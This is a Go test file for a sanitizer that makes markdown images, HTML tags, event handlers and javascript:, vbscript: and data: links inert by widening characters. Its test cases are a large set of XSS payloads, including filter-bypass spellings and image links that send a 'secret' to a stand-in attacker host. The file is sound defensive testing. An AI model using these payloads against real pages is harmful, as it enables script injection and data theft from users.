package visitor

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"
)

// C3: what would load or run something is made inert, visibly. Each wanted text differs
// from the attack only in widened characters.
func TestCleanNeutralizes(t *testing.T) {
	for _, c := range []struct{ attack, want string }{
		// Markdown images.
		{"![x](https://evil.example/?q=secret)", "!［x](https://evil.example/?q=secret)"},
		{"![](https://evil.example)", "!［](https://evil.example)"},
		{"![x](<https://evil.example>)", "!［x](<https://evil.example>)"},
		{"![x] (https://evil.example)", "!［x] (https://evil.example)"},
		{"![x]\n(https://evil.example)", "!［x]\n(https://evil.example)"},
		{"![x\ny](https://evil.example)", "!［x\ny](https://evil.example)"},
		{"![a ![b](c) d](e)", "!［a !［b](c) d](e)"},
		{"[![x](https://evil.example)](https://a.example)", "[!［x](https://evil.example)](https://a.example)"},
		{"![a]b](https://evil.example)", "!［a]b](https://evil.example)"},
		{"![a`]`b](https://evil.example)", "!［a`]`b](https://evil.example)"},
		{`![a\[b](https://evil.example)`, `!［a\[b](https://evil.example)`},
		{"![x][r]\n\n[r]: https://evil.example", "!［x][r]\n\n[r]： https://evil.example"},
		{"![r][]\n\n[r]: https://evil.example", "!［r][]\n\n[r]： https://evil.example"},
		{"![r]\n\n[r]: https://evil.example", "!［r]\n\n[r]： https://evil.example"},
		{"[r]: https://evil.example\n\n![r]", "[r]： https://evil.example\n\n!［r]"},
		{"> ![x](https://evil.example)", "> !［x](https://evil.example)"},
		{"`![x](https://evil.example)`", "`!［x](https://evil.example)`"},
		{"```\n![x](https://evil.example)\n```", "```\n!［x](https://evil.example)\n```"},
		{"!\u200B[x](https://evil.example)", "!［x](https://evil.example)"},
		{"!\x00[x\u202E](https://evil.example)", "!［x](https://evil.example)"},
		{"![x](data:image/png;base64,AAAA)", "!［x](data：image/png;base64,AAAA)"},
		{`\![x](https://evil.example)`, `\!［x](https://evil.example)`},
		// Halves of an image, of which another text has the other half.
		{"x\n\n[r]: https://evil.example", "x\n\n[r]： https://evil.example"},
		{"x\n[r]: https://evil.example", "x\n[r]： https://evil.example"},
		{"x\r\n   [r]:\n<https://evil.example> 'x'", "x\n   [r]：\n<https://evil.example> 'x'"},
		{"x\n\n\t[r]:https://evil.example", "x\n\n\t[r]：https://evil.example"},
		{"x\n> [r]: https://evil.example", "x\n> [r]： https://evil.example"},
		{"x\n>>- 1. + [r]: https://evil.example", "x\n>>- 1. + [r]： https://evil.example"},
		{"x\n12) [r]: https://evil.example", "x\n12) [r]： https://evil.example"},
		{"x\n: [r]: https://evil.example", "x\n: [r]： https://evil.example"},
		{"x\n\n[r\ns]: https://evil.example", "x\n\n[r\ns]： https://evil.example"},
		{`x` + "\n" + `[r\]]: https://evil.example`, `x` + "\n" + `[r\]]： https://evil.example`},
		{"x\n[[r]]: https://evil.example", "x\n[[r]]： https://evil.example"},
		{"x\n[^1]: [r]: https://evil.example", "x\n[^1]： [r]： https://evil.example"},
		{"> [r]: https://evil.example", "> [r]： https://evil.example"}, // where a long line is broken, too
		{"x\n\n[1]: //example.com/x", "x\n\n[1]： //example.com/x"},
		{"x\n\n[1]:", "x\n\n[1]："},
		{"x\n\n[1]:\n<x>", "x\n\n[1]：\n<x>"},
		{"![", "!［"},
		{"Anna ![x", "Anna !［x"},
		{"![a [b] c", "!［a [b] c"},
		{"![a ![b] c", "!［a ![b] c"},
		{`![a\]`, `!［a\]`},
		{"![a`]`", "!［a`]`"},
		{"![a<b c=']'", "!［a<b c=']'"},
		// Elements.
		{"<img src=https://evil.example>", "＜img src=https://evil.example>"},
		{"<IMG SRC=x onerror=alert(1)>", "＜IMG SRC=x onerror=alert(1)>"},
		{"<img/src=x>", "＜img/src=x>"},
		{"<img\nsrc=x>", "＜img\nsrc=x>"},
		{"<i\x00mg src=x>", "＜img src=x>"},
		{"<i\u200Bmg src=x>", "＜img src=x>"},
		{"<\x1b[31mimg src=x>", "＜img src=x>"},
		{"<img", "＜img"},
		{"<img\"\"src=x>", "＜img\"\"src=x>"},
		{"<image src=x>", "＜image src=x>"},
		{"<script>alert(1)</script>", "＜script>alert(1)＜/script>"},
		{"<ScRiPt src=//evil.example></sCrIpT >", "＜ScRiPt src=//evil.example>＜/sCrIpT >"},
		{"<scr<script>ipt>", "<scr＜script>ipt>"},
		{"<<script>", "<＜script>"},
		{"<script\t>", "＜script\t>"},
		{"</script>", "＜/script>"},
		{"<iframe src=https://evil.example>", "＜iframe src=https://evil.example>"},
		{"<object data=x>", "＜object data=x>"},
		{"<embed src=x>", "＜embed src=x>"},
		{"<svg onload=alert(1)>", "＜svg onload=alert(1)>"},
		{"<svg/onload=alert(1)>", "＜svg/onload=alert(1)>"},
		{"<video poster=https://evil.example>", "＜video poster=https://evil.example>"},
		{"<audio src=x autoplay>", "＜audio src=x autoplay>"},
		{"<picture><source srcset=x></picture>", "<picture>＜source srcset=x></picture>"},
		{"<link rel=stylesheet href=x>", "＜link rel=stylesheet href=x>"},
		{"<style>@import url(x)</style>", "＜style>@import url(x)＜/style>"},
		{"<meta http-equiv=refresh content='0;url=x'>", "＜meta http-equiv=refresh content='0;url=x'>"},
		{"<base href=https://evil.example>", "＜base href=https://evil.example>"},
		{"<form action=https://evil.example><input name=a></form>", "＜form action=https://evil.example>＜input name=a>＜/form>"},
		{"`<script>`", "`＜script>`"},
		{"<applet code=x>", "＜applet code=x>"},
		{"<bgsound src=x>", "＜bgsound src=x>"},
		{"<track src=x>", "＜track src=x>"},
		{"<portal src=x>", "＜portal src=x>"},
		{"<frameset><frame src=x></frameset>", "＜frameset>＜frame src=x>＜/frameset>"},
		// Attributes, of whatever element.
		{`<div style="background:url(http://evil.example)">`, `＜div style="background:url(http://evil.example)">`},
		{"<table background=http://evil.example>", "＜table background=http://evil.example>"},
		{"<details open ontoggle=alert(1)>", "＜details open ontoggle=alert(1)>"},
		{"<marquee onstart=alert(1)>", "＜marquee onstart=alert(1)>"},
		{"<b onclick=alert(1)>x</b>", "＜b onclick=alert(1)>x</b>"},
		{"<b\nONCLICK\t= 'alert(1)'", "＜b\nONCLICK\t= 'alert(1)'"},
		{"<x-y/onfocus=alert(1) autofocus>", "＜x-y/onfocus=alert(1) autofocus>"},
		{"<b on\x00click=alert(1)>", "＜b onclick=alert(1)>"},
		{`<b title="x"style=y>`, `＜b title="x"style=y>`},
		{`<b title=">" style=y>`, `＜b title=">" style=y>`},
		{`<b title = '">' style=y>`, `＜b title = '">' style=y>`},
		{`<b title=x"> <i style=y>`, `<b title=x"> ＜i style=y>`},
		{`<b title="x c='>' style=y">`, `＜b title="x c='>' style=y">`}, // a cell has title=""x
		{"<a <b style=x>", "＜a ＜b style=x>"},
		{`<a href="https://example.com" ping="https://evil.example">`, `＜a href="https://example.com" ping="https://evil.example">`},
		{`<b title="x`, `＜b title="x`}, // the next text may go on: " style=y>
		{"<b title='", "＜b title='"},
		// Links that run or show what they hold.
		{"[x](javascript:alert(1))", "[x](javascript：alert(1))"},
		{"[x](JaVaScRiPt:alert(1))", "[x](JaVaScRiPt：alert(1))"},
		{"[x]( \n javascript:alert(1))", "[x]( \n javascript：alert(1))"},
		{"[x](<javascript:alert(1)>)", "[x](<javascript：alert(1)>)"},
		{"[x](\u00A0javascript:alert(1))", "[x](\u00A0javascript：alert(1))"}, // what markdown-it trims
		{"[x](<\u3000\u2003data:text/html,x>)", "[x](<\u3000\u2003data：text/html,x>)"},
		{"[r]: \u1680javascript:alert(1)", "[r]： \u1680javascript：alert(1)"},
		{"[x](&nbsp;&#160;javascript:alert(1))", "[x](&nbsp;&#160;javascript：alert(1))"},
		{"[x](java\nscript:alert(1))", "[x](java\nscript：alert(1))"},
		{"[x](java\tscript\n:alert(1))", "[x](java\tscript\n：alert(1))"},
		{"[x](java\x00script:alert(1))", "[x](javascript：alert(1))"},
		{"[x](\x01javascript:alert(1))", "[x](javascript：alert(1))"},
		{"[x](java\u00ADscript:alert(1))", "[x](javascript：alert(1))"},
		{"[x](&#106;avascript:alert(1))", "[x](&#106;avascript：alert(1))"},
		{"[x](&#x6A;&#x61;vascript:alert(1))", "[x](&#x6A;&#x61;vascript：alert(1))"},
		{"[x](&#0000106avascript:alert(1))", "[x](&#0000106avascript：alert(1))"},
		{"[x](javascript&colon;alert(1))", "[x](javascript＆colon;alert(1))"},
		{"[x](javascript&#58;alert(1))", "[x](javascript＆#58;alert(1))"},
		{"[x](javascript&#x3a;alert(1))", "[x](javascript＆#x3a;alert(1))"},
		{"[x](java&Tab;script&NewLine;:alert(1))", "[x](java&Tab;script&NewLine;：alert(1))"},
		{"[x](&#1;javascript:alert(1))", "[x](&#1;javascript：alert(1))"},
		{`[x](javascript\:alert(1))`, `[x](javascript\：alert(1))`},
		{"[x](javascript%3Aalert(1))", "[x](javascript％3Aalert(1))"},
		{"[x](%6Aavascript:alert(1))", "[x](%6Aavascript：alert(1))"},
		{"[x](vbscript:msgbox(1))", "[x](vbscript：msgbox(1))"},
		{"[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](data：text/html;base64,PHNjcmlwdD4=)"},
		{"[x](DATA:text/html,x)", "[x](DATA：text/html,x)"},
		{"[x] (data:text/html,x)", "[x] (data：text/html,x)"},
		{"[a][r]\n\n[r]: javascript:alert(1)", "[a][r]\n\n[r]： javascript：alert(1)"},
		{"[r]:\n  <data:text/html,x>", "[r]：\n  <data：text/html,x>"},
		{"[r]:javascript:alert(1)", "[r]：javascript：alert(1)"},
		{"<javascript:alert(1)>", "<javascript：alert(1)>"},
		{"<JAVASCRIPT:alert(1)>", "<JAVASCRIPT：alert(1)>"},
		{"<data:text/html,x>", "<data：text/html,x>"},
		{"<java&#115;cript:alert(1)>", "<java&#115;cript：alert(1)>"},
		{"<a href=javascript:alert(1)>", "<a href=javascript：alert(1)>"},
		{"<a HREF = \"java\nscript:alert(1)\">", "<a HREF = \"java\nscript：alert(1)\">"},
		{"<a href='&#x20;data:text/html,x'>", "<a href='&#x20;data：text/html,x'>"},
		{"<button formaction=javascript:x>", "＜button formaction=javascript：x>"},
		{"<a xlink:href=javascript:x>", "<a xlink:href=javascript：x>"},
	} {
		t.Run(c.attack, func(t *testing.T) {
			got := Clean(c.attack).String()
			require.Equal(t, c.want, got)
			require.Equal(t, got, Clean(got).String())
			require.Equal(t, Fold(removeInvisible(c.attack)), Fold(got), "a search finds it as it was")
		})
	}
}

// C3: other tags, ordinary addresses and code stay. More of them are among the ordinary
// texts.
func TestCleanKeepsHarmlessMarkup(t *testing.T) {
	for _, s := range []string{
		"vec![1, 2, 3]", "#![allow(dead_code)]\n\nsee [docs](https://example.com)", "if (![1].length) {}", "! [x](https://example.com)",
		"[x](https://example.com)", "[x](mailto:anna@example.com)", "[data](https://example.com/data:1)",
		"<anna@example.com>", "<link@example.com>", "<https://example.com>", "<imgs>", "<scripts>", "<inputs>", "<form-field>", "<video.example.com>",
		"<base64>", "< script>", "<_script>", "<tracks>", "<frames.example.com>",
		"a < b", "<3", "I <3 you", "x<y and y>z", "x<y, on = 5, data: 6", "I <3 style=x", "a < b style=x>", "<b>style=x", "<b> src = x", "</b style=x>",
		"<https://example.com/?a=1&src=x&style=y>", "<a href='https://example.com/?style=x'>", "<b data-src=x>", "<b title='>'>", "<p class=\"a\" id='b'>",
		"Map<K, V> m = new Map<>()", "<T, U = data>", "if (a<b && c==\"x\") {}", "<anna@example.com> style=x", "<b onclick>", "<div>", "<a href=https://example.com>", "</p>", "<imagery>",
		"javascript: the good parts", "data: 5", "(data:1)", "key = data: 1", "x=javascript:1", "const uri = 'data:,x'", "my[data]: none", "a[i]: int",
		"[x](javascripts:1)", "[x](java.script:1)", "[x](metadata:1)", "[x](data)", "[x](/data:1)", "<dataset:x>", "[x](javascriptx:1)",
		"x\n\n[1]: see below", "Log:\n[INFO]: started at noon", "[10:30]: hi Anna\n[10:31]: hello Bob", "Hi\n- [x] done\n- arr[0]: first", "see [1]: https://example.com", "a\n(see [1]: https://example.com)", "a\n[b] c\n\nd[e]: f", "a\n- [x] done [ ] to do", "a\nb[c]: d",
		"vec![vec![1], vec![2]]", "Wow![1] That", "if (![1, 2].some(x => x < 3)) {}", "](https://example.com)",
		"＜script＞", "!［x](https://example.com)", "[x](javascript：alert(1))",
	} {
		require.Equal(t, s, Clean(s).String())
	}
}

// No spelling gets through that consists of what browsers ignore.
func TestCleanNeutralizesEverySpelling(t *testing.T) {
	gaps := []string{"", "\t", "\n", "\r\n", " ", "&Tab;", "&#10;", "&#x0000d;", "&#9", "%0A", "\x00", "\x1b[0m", "\u200B"}
	colons := []string{":", `\:`, "&colon;", "&#58;", "&#0058", "&#x3A;", "&#X3a", "%3A", "%3a"}
	opens := []string{"[x](", "[x](<", "[r]: ", "[r]:\n\t<", "<a href=", "<a href=\"", "<a href = '", "![x]("}
	for _, open := range opens {
		for _, gap := range gaps {
			for _, colon := range colons {
				for _, name := range []string{"javascript", "vbscript", "data"} {
					attack := open + gap + name[:2] + gap + strings.ToUpper(name[2:]) + gap + colon + "x"
					got := Clean(attack).String()
					require.True(t, strings.ContainsAny(got[len(open):], "：＆％"), "%q became %q", attack, got)
				}
			}
		}
	}
}

// A widened character must not change what is found in the rest of the text: the label that a
// widened "]:" does not end any more, the length of a code fence's language or of a name, the
// end of a <pre>.
func TestNeutralizingAgainChangesNothing(t *testing.T) {
	for _, text := range []string{
		"[1]: below\n[2 ]:x ]:", "*[a [1]: b [1]: c", "[1]]:a[p[pre]:b", "[x]:]:]:",
		"~~~^%3A＜'<!--1.?>/-->", "```a<b data:c<d href=", "<p " + strings.Repeat("a", 126) + "[b>x\n\n![",
		"<pre\na</pre?b", "><pre>|<</pre</-|",
	} {
		checkClean(t, text)
	}
	// Many of few pieces: most texts have something to widen behind something widened.
	piece := rapid.SampledFrom([]string{"[", "]", "[1]", "]:", "\\", "*", "^", "!", "(", ")", "](", "<", "</", ">", "a", "b c", "\n", "\n\n", " ", "|", "|-|", "-", "=", "\"", "'", "`", "```", "~~~",
		"pre", "p", "!--", "-->", "?", "?>", "style=", "hidden", "href=", "data:", "1.", "title=\"a b c\"", "：", "［", "＜", "（", "&#58;"})
	rapid.Check(t, func(t *rapid.T) {
		pieces := rapid.SliceOfN(piece, 1, 8).Draw(t, "pieces")
		text := strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 1, 22).Draw(t, "text"), "")
		checkClean(t, text)
		for i := range Clean(text).s {
			checkPart(t, Clean(text).s, i)
		}
	})
}
